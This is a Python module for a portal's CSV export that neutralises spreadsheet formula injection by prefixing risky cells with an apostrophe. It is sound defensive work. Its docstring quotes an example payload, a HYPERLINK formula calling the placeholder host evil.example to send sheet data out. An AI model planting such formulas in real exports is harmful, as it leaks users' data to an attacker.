"""The one CSV writer of the portal: the pages' ``?format=csv`` exports and the API's CSV
renderer both write their cells through ``write_csv``, so both neutralise formulas alike.

A spreadsheet opening a CSV file runs a cell starting with ``=``, ``+``, ``-`` or ``@`` as a
formula (``=HYPERLINK("http://evil.example/?"&A1,"Click")`` sends the sheet's data away), and
one starting with a tab, carriage return or line feed may be read as one after the spreadsheet
trims it. Such a cell is written with a leading apostrophe, which spreadsheets show as text
(OWASP "CSV Injection"). Every record's text reaches these files: titles, names and countries
the secretariat or an API client typed."""

import csv

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")


def csv_cell(value):
    """A cell's text: ``None`` as empty, anything else as ``str``, and a leading apostrophe
    where a spreadsheet would read the text as a formula."""
    text = "" if value is None else str(value)
    if text.startswith(FORMULA_STARTS):
        return "'" + text
    return text


def write_csv(stream, header, rows):
    """Write ``header`` then each row (a sequence of values) to ``stream`` (a file-like object,
    e.g. an HttpResponse or StringIO) as CSV with CRLF line ends, every cell through
    ``csv_cell``."""
    writer = csv.writer(stream, lineterminator="\r\n")
    writer.writerow([csv_cell(name) for name in header])
    for row in rows:
        writer.writerow([csv_cell(value) for value in row])
